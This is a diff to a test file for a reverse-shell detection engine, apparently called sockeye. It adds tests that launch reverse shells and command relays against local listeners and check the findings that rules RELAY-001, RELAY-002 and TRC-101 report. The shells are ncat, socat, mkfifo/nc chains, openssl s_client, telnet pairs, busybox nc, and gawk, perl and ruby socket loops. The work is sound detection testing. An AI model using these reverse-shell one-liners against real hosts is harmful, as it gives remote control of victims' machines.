@@ -9,7 +9,9 @@ import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { Engine, ProcessTable, builtinRules, type Finding } from "sockeye";
 import net from "node:net";
 import http from "node:http";
-import { mkdtempSync } from "node:fs";
+import tls from "node:tls";
+import { spawnSync } from "node:child_process";
+import { mkdtempSync, readFileSync } from "node:fs";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { PYTHON, Session, kernelTier, run } from "./harness.js";
@@ -25,27 +27,38 @@ interface RelayFinding extends Finding {
 
 /**
  * A listener that, on its first connection, sends `echo` of a marker the shell must compute,
- * waits for the answer, keeps the shell alive a moment (the rule reads /proc of live
- * processes), then sends `exit`.
+ * waits for the answer (then the next command's, when given several), keeps the shell alive a
+ * moment (the rules read /proc of live processes), then sends `exit`. With `tls`, the same over
+ * TLS (for openssl s_client).
  */
-async function commandingListener(host: string): Promise<{ port: number; answered: Promise<boolean>; close(): Promise<void> }> {
+async function commandingListener(
+  host: string,
+  opts: { commands?: [string, string][]; tls?: { key: string; cert: string } } = {},
+): Promise<{ port: number; answered: Promise<boolean>; close(): Promise<void> }> {
+  const commands = opts.commands ?? [["echo RELAY_$((6*7))", "RELAY_42"]];
   const sockets = new Set<net.Socket>();
   let resolveAnswered!: (ok: boolean) => void;
   const answered = new Promise<boolean>((r) => (resolveAnswered = r));
-  const server = net.createServer((s) => {
+  const onConnection = (s: net.Socket) => {
     sockets.add(s);
     s.on("error", () => {});
     let got = "";
-    s.write("echo RELAY_$((6*7))\n");
+    let next = 0;
+    s.write(`${commands[0]![0]}\n`);
     s.on("data", (d: Buffer) => {
       got += d.toString();
-      if (got.includes("RELAY_42")) {
-        resolveAnswered(true);
-        setTimeout(() => s.end("exit\n"), 1500);
+      if (next < commands.length && got.includes(commands[next]![1])) {
+        next++;
+        if (next < commands.length) s.write(`${commands[next]![0]}\n`);
+        else {
+          resolveAnswered(true);
+          setTimeout(() => s.end("exit\n"), 1500);
+        }
       }
     });
-    s.on("close", () => resolveAnswered(got.includes("RELAY_42")));
-  });
+    s.on("close", () => resolveAnswered(next === commands.length));
+  };
+  const server = opts.tls !== undefined ? tls.createServer(opts.tls, onConnection) : net.createServer(onConnection);
   await new Promise<void>((resolve) => server.listen(0, host, resolve));
   return {
     port: (server.address() as net.AddressInfo).port,
@@ -54,7 +67,24 @@ async function commandingListener(host: string): Promise<{ port: number; answere
   };
 }
 
-describe.runIf(tier.run)("kernel: RELAY-001 on real relay shells", () => {
+/** A listener that only collects what arrives (the output half of a telnet pair). */
+async function collectingListener(host: string): Promise<{ port: number; received: () => string; close(): Promise<void> }> {
+  const sockets = new Set<net.Socket>();
+  let got = "";
+  const server = net.createServer((s) => {
+    sockets.add(s);
+    s.on("error", () => {});
+    s.on("data", (d: Buffer) => (got += d.toString()));
+  });
+  await new Promise<void>((resolve) => server.listen(0, host, resolve));
+  return {
+    port: (server.address() as net.AddressInfo).port,
+    received: () => got,
+    close: () => new Promise((resolve) => { for (const s of sockets) s.destroy(); server.close(() => resolve()); }),
+  };
+}
+
+describe.runIf(tier.run)("kernel: RELAY-001 and RELAY-002 on real relay shells and command relays", () => {
   let session: Session;
   let engine: Engine;
   const findings: RelayFinding[] = [];
@@ -72,10 +102,21 @@ describe.runIf(tier.run)("kernel: RELAY-001 on real relay shells", () => {
   afterAll(() => session?.close());
 
   const forPort = (port: number) => findings.filter((f) => f.destination?.port === port);
+  let tlsKeys: { key: string; cert: string } | undefined;
+  /** A throwaway self-signed pair for the TLS listener. */
+  const tlsPair = () => {
+    if (tlsKeys !== undefined) return tlsKeys;
+    const key = join(dir, "tls.key"), cert = join(dir, "tls.crt");
+    const gen = spawnSync("openssl", ["req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:prime256v1", "-nodes", "-subj", "/CN=localhost",
+      "-days", "1", "-keyout", key, "-out", cert], { encoding: "utf8" });
+    if (gen.status !== 0) throw new Error(`openssl req: ${gen.stderr}`);
+    return (tlsKeys = { key: readFileSync(key, "utf8"), cert: readFileSync(cert, "utf8") });
+  };
 
-  const relays: { name: string; cmd: (h: string, p: number) => string; relay: string[]; host?: string }[] = [
+  const relays: { name: string; cmd: (h: string, p: number) => string; relay: string[]; host?: string; tls?: boolean }[] = [
     { name: "ncat -e /bin/sh (pipes)", cmd: (h, p) => `ncat ${h} ${p} -e /bin/sh`, relay: ["ncat"] },
     { name: "ncat -e /bin/sh over IPv6", host: "::1", cmd: (h, p) => `ncat ${h} ${p} -e /bin/sh`, relay: ["ncat"] },
+    { name: "ncat --sh-exec 'sh -i' (pipes, the shell started through sh -c)", cmd: (h, p) => `ncat ${h} ${p} --sh-exec 'sh -i'`, relay: ["ncat"] },
     { name: "socat EXEC:/bin/sh (socketpair)", cmd: (h, p) => `socat TCP:${h}:${p} EXEC:/bin/sh`, relay: ["socat"] },
     {
       name: "socat EXEC:'bash -li',pty,stderr,setsid,sigint,sane (pty)",
@@ -86,6 +127,17 @@ describe.runIf(tier.run)("kernel: RELAY-001 on real relay shells", () => {
       name: "mkfifo chain: cat F | sh -i 2>&1 | nc F",
       cmd: (h, p) => `F=${join(dir, "f")}-${p}; rm -f $F; mkfifo $F; cat $F | sh -i 2>&1 | nc.traditional ${h} ${p} > $F`,
       relay: ["nc.traditional"],
+    },
+    {
+      name: "mkfifo chain, the other order: sh -i < F 2>&1 | nc H P > F",
+      cmd: (h, p) => `F=${join(dir, "g")}-${p}; rm -f $F; mkfifo $F; sh -i < $F 2>&1 | nc.traditional ${h} ${p} > $F`,
+      relay: ["nc.traditional"],
+    },
+    {
+      name: "openssl s_client -quiet with a FIFO: sh -i < F 2>&1 | openssl s_client … > F (TLS listener)",
+      tls: true,
+      cmd: (h, p) => `F=${join(dir, "t")}-${p}; rm -f $F; mkfifo $F; sh -i < $F 2>&1 | openssl s_client -quiet -connect ${h}:${p} > $F 2>/dev/null`,
+      relay: ["openssl"],
     },
     {
       name: "python subprocess.Popen(['/bin/sh','-i'], stdin=PIPE, stdout=PIPE) relayed to a socket",
@@ -116,7 +168,7 @@ c.wait()'`,
   for (const relay of relays) {
     it(relay.name, async () => {
       const host = relay.host ?? "127.0.0.1";
-      const listener = await commandingListener(host);
+      const listener = await commandingListener(host, relay.tls === true ? { tls: tlsPair() } : {});
       try {
         const r = await run("timeout", ["-s", "KILL", "10", "bash", "-c", relay.cmd(host, listener.port)]);
         expect(await listener.answered, `no answer from the shell: ${r.stderr}`).toBe(true);
@@ -129,6 +181,77 @@ c.wait()'`,
         expect(relay.relay).toContain(f.sockeye.relay.program.name);
         expect(f.sockeye.relay.shell.interpreter).toBe("shell");
         expect(["sh", "bash", "dash"]).toContain(f.process.name);
+      } finally {
+        await listener.close();
+      }
+    }, 20_000);
+  }
+
+  it("telnet H P1 | /bin/sh | telnet H P2: one connection per direction, one finding naming both", async () => {
+    const input = await commandingListener("127.0.0.1");
+    const output = await collectingListener("127.0.0.1");
+    try {
+      // telnet quits at the end of its stdin: an attacker's terminal keeps it open, here a sleep.
+      const r = await run("timeout", ["-s", "KILL", "10", "bash", "-c",
+        `sleep 6 | telnet 127.0.0.1 ${input.port} | /bin/sh 2>/dev/null | telnet 127.0.0.1 ${output.port}`]);
+      await session.settle();
+      expect(output.received(), r.stderr).toContain("RELAY_42");
+      const found = [...forPort(input.port), ...forPort(output.port)];
+      expect(found.map((f) => f.rule.id)).toEqual(["RELAY-001"]);
+      const f = found[0]! as RelayFinding & { sockeye: { relay: { output_socket: { remote: unknown } } } };
+      expect(f.sockeye.relay.remote).toEqual({ address: "127.0.0.1", port: input.port });
+      expect(f.sockeye.relay.output_socket.remote).toEqual({ address: "127.0.0.1", port: output.port });
+      expect(["telnet", "inetutils-telnet"]).toContain(f.sockeye.relay.program.name);
+    } finally {
+      await input.close();
+      await output.close();
+    }
+  }, 20_000);
+
+  it("busybox nc H P -e sh: the socket is dup2ed onto the shell's stdio, so TRC-101's, one finding across the rules", async () => {
+    const listener = await commandingListener("127.0.0.1");
+    try {
+      const r = await run("timeout", ["-s", "KILL", "10", "busybox", "nc", "127.0.0.1", String(listener.port), "-e", "sh"]);
+      expect(await listener.answered, `no answer from the shell: ${r.stderr}`).toBe(true);
+      await session.settle();
+      expect(forPort(listener.port).map((f) => f.rule.id)).toEqual(["TRC-101"]);
+    } finally {
+      await listener.close();
+    }
+  }, 20_000);
+
+  /** Command relays: each command runs through `sh -c`, so RELAY-002's, never RELAY-001's. */
+  const commandRelays: { name: string; cmd: (h: string, p: number) => string; relay: string }[] = [
+    {
+      name: "gawk /inet/tcp/0/H/P with cmd |& getline",
+      cmd: (h, p) => `gawk 'BEGIN { s = "/inet/tcp/0/${h}/${p}"; while ((s |& getline c) > 0) { if (c == "exit") break; while ((c |& getline line) > 0) print line |& s; close(c) } }'`,
+      relay: "gawk",
+    },
+    {
+      name: "perl: a socket and backticks in a loop",
+      cmd: (h, p) => `perl -MIO::Socket::INET -e '$s = IO::Socket::INET->new(PeerAddr => "${h}:${p}") or die; while (defined($c = <$s>)) { chomp $c; last if $c eq "exit"; print $s qx($c) }'`,
+      relay: "perl",
+    },
+    {
+      name: "ruby: a socket and IO.popen in a loop",
+      cmd: (h, p) => `ruby -rsocket -e 's = TCPSocket.new("${h}", ${p}); while (c = s.gets); c = c.chomp; break if c == "exit"; s.write(IO.popen(c, &:read)); end'`,
+      relay: "ruby",
+    },
+  ];
+  for (const relay of commandRelays) {
+    it(`command relay: ${relay.name}`, async () => {
+      const listener = await commandingListener("127.0.0.1", { commands: [["echo RELAY_$((6*7))", "RELAY_42"], ["echo RELAY_$((6*8))", "RELAY_48"]] });
+      try {
+        const r = await run("timeout", ["-s", "KILL", "10", "bash", "-c", relay.cmd("127.0.0.1", listener.port)]);
+        expect(await listener.answered, `no answer from the relay: ${r.stderr}`).toBe(true);
+        await session.settle();
+        const found = forPort(listener.port) as (RelayFinding & { sockeye: { command_relay: { program: { name: string }; remote: unknown; commands: unknown[] } } })[];
+        expect(found.map((f) => f.rule.id)).toEqual(["RELAY-002"]);
+        const f = found[0]!;
+        expect(f.rule.severity).toBe("medium");
+        expect(f.sockeye.command_relay.remote).toEqual({ address: "127.0.0.1", port: listener.port });
+        expect(f.sockeye.command_relay.program.name).toBe(relay.relay);
+        expect(f.sockeye.command_relay.commands).toHaveLength(2);
       } finally {
         await listener.close();
       }
